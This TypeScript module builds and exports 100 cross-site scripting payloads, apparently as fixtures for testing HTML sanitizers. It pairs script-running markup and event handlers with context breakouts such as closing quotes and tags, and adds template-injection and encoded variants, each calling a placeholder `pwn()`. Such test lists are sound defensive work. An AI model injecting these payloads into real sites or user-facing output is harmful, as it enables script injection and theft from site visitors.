/** What a browser would run of a text that a page takes for markup; each calls `pwn`. */
const runners = [
  '<script>pwn()</script>',
  '<img src=x onerror=pwn()>',
  '<svg/onload=pwn()>',
  '<details open ontoggle=pwn()>',
  '<input autofocus onfocus=pwn()>',
  '<iframe srcdoc="<script>parent.pwn()</script>"></iframe>',
  '<video><source onerror=pwn()></video>',
  '<style onload=pwn()></style>',
  '<a href=javascript:pwn() id=x>x</a>',
  '<math><mtext><style><img src onerror=pwn()>',
];

/** What a text would have to end before that, by where it stands. */
const breakouts = [
  '',
  '">',
  "'>",
  '</script>',
  '</title>',
  '</textarea>',
  '-->',
  ']]>',
  '`>',
  '\\">',
];

/** Texts that are markup nowhere, but a program, an address or a template somewhere. */
const others = [
  'javascript:pwn()',
  "';pwn();//",
  '");pwn();//',
  `${'$'}{pwn()}`,
  "{{constructor.constructor('pwn()')()}}",
  'data:text/html,<script>parent.pwn()</script>',
  '&lt;img src=x onerror=pwn()&gt;',
  '\\u003cimg src=x onerror=pwn()\\u003e',
  '%3Cscript%3Epwn()%3C/script%3E',
  '<!--<script>pwn()',
  '" onmouseover="pwn()" style="position:fixed;inset:0',
  "' autofocus onfocus='pwn()",
  'x" onerror="pwn()',
  '＜script＞pwn()＜/script＞',
];

/** Pairs in which each ten have every runner and every breakout. */
const pairs = breakouts.flatMap((_, row) =>
  runners.map((runner, column) => `${breakouts[(row + column) % breakouts.length]}${runner}`),
);

/** A hundred texts, the first ten of every sort. */
export const payloads: readonly string[] = [
  ...pairs.slice(0, 7),
  ...others.slice(0, 3),
  ...pairs.slice(7),
  ...others.slice(3),
].slice(0, 100);
